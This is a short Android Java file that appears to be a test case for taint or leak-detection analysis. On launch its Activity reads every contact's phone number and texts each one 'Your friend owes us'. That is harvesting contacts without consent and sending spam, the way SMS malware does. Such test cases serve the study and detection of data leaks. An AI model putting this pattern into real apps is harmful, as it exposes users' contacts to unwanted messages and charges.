// Each contact gets a message: the number itself leaves the phone as the address of an SMS.
package cases.sink_sms_recipient;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.telephony.SmsManager;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        while (rows.moveToNext()) {
            SmsManager.getDefault().sendTextMessage(rows.getString(1), null, "Your friend owes us", null, null);
        }
    }
}
